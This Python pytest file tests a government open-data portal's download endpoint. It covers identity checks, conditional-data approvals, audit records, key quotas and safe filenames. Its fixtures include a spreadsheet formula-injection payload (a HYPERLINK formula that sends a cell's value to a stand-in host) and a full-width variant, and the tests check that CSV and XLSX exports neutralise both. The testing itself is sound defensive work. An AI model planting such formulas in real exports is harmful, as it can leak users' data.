"""Downloads of released data (Art. 33, 40): identity first, conditional data only under an
approved application and only its granted items, the record written before any byte, the
count, Excel safety, from the refused side too."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from typing import Any
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import select
from sqlalchemy.orm import Session

from govdata.core.access import AccessRecord
from govdata.opendata import downloads, keys
from govdata.opendata.api_auth import KEY_HEADER
from govdata.opendata.errors import ConditionalNotGranted, IdentityRequired
from govdata.opendata.models import OpenDataset
from tests.opendata.helpers import OpenCity, build_open_city
from tests.opendata.portal_helpers import approve, publish
from tests.world import World

# 出生日期 is not open (helpers.build_open_city): the release below carries it anyway, as if
# the item had been closed after the release was built; its values must never leave.
PERSON_COLUMNS = [("公民身份号码", "C"), ("姓名", "C"), ("出生日期", "C")]
PERSON_ROWS = [
    ("500***0011", '=HYPERLINK("http://x/?"&A1,"点此")', "SECRET-BIRTH-1"),
    ("500***0022", "李*", "SECRET-BIRTH-2"),
    ("500***0033", "＋王*", None),
]
MARKET_COLUMNS = [("公民身份号码", "C"), ("姓名", "C"), ("经营状态", "C")]
MARKET_ROWS = [("500***0011", "张*", "存续"), ("500***0022", "李*", "注销")]
URL = "/open/datasets/{code}/download.{fmt}"


@pytest.fixture
def oc(session: Session, world: World) -> OpenCity:
    city = build_open_city(session, world)
    publish(session, city.person, PERSON_COLUMNS, PERSON_ROWS)
    publish(session, city.market, MARKET_COLUMNS, MARKET_ROWS)
    session.commit()
    return city


def _records(session: Session, code: str) -> list[AccessRecord]:
    session.expire_all()
    return list(
        session.scalars(
            select(AccessRecord)
            .where(AccessRecord.action == downloads.ACTION, AccessRecord.object_id == code)
            .order_by(AccessRecord.id)
        )
    )


def _count(session: Session, code: str) -> int:
    session.expire_all()
    return int(session.scalar(select(OpenDataset.downloads).where(OpenDataset.code == code)) or 0)


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_identity_is_required_and_refusals_are_recorded(
    client: Any, sign_in: Any, session: Session, oc: OpenCity
) -> None:
    # Art. 33 ¶3: anonymous visitors and accounts without a checked identity get nothing.
    r = client.get(URL.format(code=oc.person.code, fmt="csv"))
    assert r.status_code == 401
    assert r.json()["error"]["code"] == "opendata.identity_required"
    assert "身份认证" in r.json()["error"]["message"]
    r = sign_in("company").get(URL.format(code=oc.person.code, fmt="json"))
    assert r.status_code == 401 and "SECRET" not in r.text and "500***" not in r.text
    records = _records(session, oc.person.code)
    # Art. 40: every attempt is on record, the refusals with their code and no rows.
    assert [(x.outcome, x.reason, x.rows) for x in records] == [
        ("refused", "opendata.identity_required", 0)
    ] * 2
    assert records[0].actor_name == downloads.ANONYMOUS and records[0].actor_id is None
    assert records[1].actor_id is not None
    assert _count(session, oc.person.code) == 0


def test_csv_download_sends_only_open_items_neutralized_and_records_first(
    sign_in: Any, session: Session, world: World, oc: OpenCity
) -> None:
    r = sign_in("citizen").get(URL.format(code=oc.person.code, fmt="csv"))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = _csv(r.content)
    # Art. 30: the closed item never leaves, though the release holds it.
    assert rows[0] == ["公民身份号码", "姓名"]
    assert "SECRET" not in r.content.decode("utf-8-sig")
    # Formula injection: formula-like text (also full-width) starts with an apostrophe.
    assert rows[1] == ["500***0011", '\'=HYPERLINK("http://x/?"&A1,"点此")']
    assert rows[3] == ["500***0033", "'＋王*"]
    assert len(rows) == 4
    (record,) = _records(session, oc.person.code)
    assert (record.outcome, record.rows, record.fields) == ("allowed", 3, "公民身份号码,姓名")
    assert record.actor_id == world.people["citizen"] and record.personal is False
    assert _count(session, oc.person.code) == 1
    disposition = r.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=")
    encoded = disposition.split("filename*=UTF-8''")[1]
    assert unquote(encoded).startswith("户籍人口基本信息-v1-") and encoded.endswith(".csv")


def test_xlsx_download_holds_no_live_formula(sign_in: Any, session: Session, oc: OpenCity) -> None:
    r = sign_in("citizen").get(URL.format(code=oc.person.code, fmt="xlsx"))
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["公民身份号码", "姓名"] and len(values) == 4
    cell = sheet.cell(row=2, column=2)
    # The text is kept as it was, as a string cell marked "quote prefix", never a formula.
    assert cell.value == '=HYPERLINK("http://x/?"&A1,"点此")' and cell.data_type == "s"
    assert cell.quotePrefix
    assert b"SECRET" not in r.content
    assert _count(session, oc.person.code) == 1


def test_json_download_is_an_array_of_objects(sign_in: Any, oc: OpenCity) -> None:
    r = sign_in("citizen").get(URL.format(code=oc.person.code, fmt="json"))
    assert r.status_code == 200, r.text
    body = json.loads(r.content)
    assert body[1] == {"公民身份号码": "500***0022", "姓名": "李*"} and len(body) == 3


def test_conditional_data_needs_an_approval_and_gets_only_granted_items(
    sign_in: Any, session: Session, world: World, oc: OpenCity
) -> None:
    citizen = sign_in("citizen")
    r = citizen.get(URL.format(code=oc.market.code, fmt="csv"))
    assert r.status_code == 403  # Art. 33 ¶2
    assert r.json()["error"]["code"] == "opendata.application_required"
    app = approve(session, world, oc.market, ["经营状态"])
    session.commit()
    r = citizen.get(URL.format(code=oc.market.code, fmt="csv"))
    assert r.status_code == 200, r.text
    assert _csv(r.content) == [["经营状态"], ["存续"], ["注销"]]
    refused, allowed = _records(session, oc.market.code)
    assert (refused.outcome, refused.reason) == ("refused", "opendata.application_required")
    assert (allowed.outcome, allowed.fields, allowed.rows) == ("allowed", "经营状态", 2)
    assert allowed.purpose == f"application:{app.id}"
    assert _count(session, oc.market.code) == 1
    # The provider reads all it releases (open items only).
    r = sign_in("officer2").get(URL.format(code=oc.market.code, fmt="csv"))
    assert _csv(r.content)[0] == ["公民身份号码", "姓名", "经营状态"]


def test_no_release_unknown_or_withdrawn_is_not_found(
    sign_in: Any, session: Session, world: World
) -> None:
    city = build_open_city(session, world)  # no release published
    session.commit()
    citizen = sign_in("citizen")
    r = citizen.get(URL.format(code=city.person.code, fmt="csv"))
    assert r.status_code == 404 and r.json()["error"]["code"] == "opendata.no_release"
    r = citizen.get(URL.format(code="no-such-code", fmt="csv"))
    assert r.status_code == 404 and r.json()["error"]["code"] == "opendata.dataset_not_found"
    (record,) = _records(session, city.person.code)
    assert (record.outcome, record.reason) == ("refused", "opendata.no_release")


def test_service_refuses_without_identity_and_streams_in_batches(
    session: Session, world: World, oc: OpenCity
) -> None:
    with pytest.raises(IdentityRequired):
        downloads.start(session, None, oc.person.code, "csv")
    with pytest.raises(ConditionalNotGranted):
        downloads.start(session, world.actor(session, "citizen"), oc.market.code, "csv")
    got = downloads.start(session, world.actor(session, "citizen"), oc.person.code, "json")
    assert got.header == ["公民身份号码", "姓名"] and got.rows == 3
    parts = list(downloads.chunks(session, got, batch=1))
    assert len(parts) == 5  # "[", one chunk per row (batch of 1), "]"
    assert [r["姓名"] for r in json.loads(b"".join(parts))] == [
        '=HYPERLINK("http://x/?"&A1,"点此")',  # JSON is data, not a spreadsheet: unchanged
        "李*",
        "＋王*",
    ]


def test_filename_is_safe_and_named_by_dataset_version_and_date() -> None:
    d = downloads.Download(
        fmt="xlsx",
        dataset_code="R-1",
        dataset_name='户籍/人口:"信息"',
        version=3,
        published_on=date(2026, 12, 5),
        table_name="odr_1",
        columns=(),
        rows=0,
    )
    assert d.filename == "户籍_人口_信息-v3-20261205.xlsx"
    header = d.content_disposition()
    assert 'filename="R-1-v3-20261205.xlsx"' in header
    assert "filename*=UTF-8''%E6%88%B7" in header and "/" not in header.split("''")[1]


def test_demo_downloads_go_through_the_gate_once(
    session: Session, world: World, oc: OpenCity
) -> None:
    from govdata.opendata.demo.portal import PLAN, demo_downloads

    made = demo_downloads(session, username="citizen")
    # Unconditional data: every planned download; conditional without an approval: none.
    assert made == len(PLAN)
    assert _count(session, oc.person.code) == len(PLAN) and _count(session, oc.market.code) == 0
    assert [r.outcome for r in _records(session, oc.market.code)] == []
    assert demo_downloads(session, username="citizen") == 0  # run again: nothing added
    assert demo_downloads(session, username="company") == 0  # no checked identity


def test_the_record_is_committed_before_the_first_byte(
    sign_in: Any, session: Session, oc: OpenCity, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Art. 40, fail closed: the body's producer fails before yielding anything, yet the
    # download is on record and counted, because both were committed before the stream began.
    def broken(*args: Any, **kw: Any) -> Any:
        raise RuntimeError("the stream failed")
        yield b""  # pragma: no cover - a generator that fails at its first step

    monkeypatch.setattr(downloads, "chunks", broken)
    r = sign_in("citizen").get(URL.format(code=oc.person.code, fmt="csv"))
    assert b"500***" not in r.content  # nothing of the data was sent
    (record,) = _records(session, oc.person.code)
    assert (record.outcome, record.rows) == ("allowed", 3)
    assert _count(session, oc.person.code) == 1


def test_a_large_release_is_split_into_sheets_excel_can_hold(
    session: Session, world: World, oc: OpenCity, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "XLSX_SHEET_ROWS", 2)  # Excel's limit is 1,048,576 rows
    got = downloads.start(session, world.actor(session, "citizen"), oc.person.code, "xlsx")
    book = load_workbook(io.BytesIO(b"".join(downloads.chunks(session, got))))
    assert book.sheetnames == ["数据", "数据2"]
    rows = [[c.value for c in r] for name in book.sheetnames for r in book[name].iter_rows()]
    assert rows[0] == rows[3] == ["公民身份号码", "姓名"]  # each sheet has the header
    assert [r[0] for r in rows if r[0] != "公民身份号码"] == [
        "500***0011",
        "500***0022",
        "500***0033",
    ]


def test_a_developer_key_downloads_as_its_owner_within_its_quota(
    client: Any, session: Session, world: World, oc: OpenCity
) -> None:  # Art. 33 ¶3: a script fetches the resource URL with its owner's key
    issued = keys.issue_key(session, world.people["citizen"], "脚本", daily_quota=2)
    session.commit()
    url = URL.format(code=oc.person.code, fmt="csv")
    r = client.get(url, headers={"Authorization": f"Bearer {issued.secret}"})
    assert r.status_code == 200, r.text
    assert _csv(r.content)[0] == ["公民身份号码", "姓名"]
    (record,) = _records(session, oc.person.code)
    assert (record.outcome, record.actor_id) == ("allowed", world.people["citizen"])
    # The key's quota counts downloads as any other call.
    assert client.get(url, headers={KEY_HEADER: issued.secret}).status_code == 200
    r = client.get(url, headers={KEY_HEADER: issued.secret})
    assert r.status_code == 429 and r.json()["error"]["code"] == "opendata.key_quota_exceeded"
    assert "Retry-After" in r.headers
    # A key that is not one is refused, never downloaded as anonymous or as anyone.
    r = client.get(url, headers={"Authorization": "Bearer od_not-a-key"})
    assert r.status_code == 401 and r.json()["error"]["code"] == "opendata.invalid_key"
    assert "500***" not in r.text
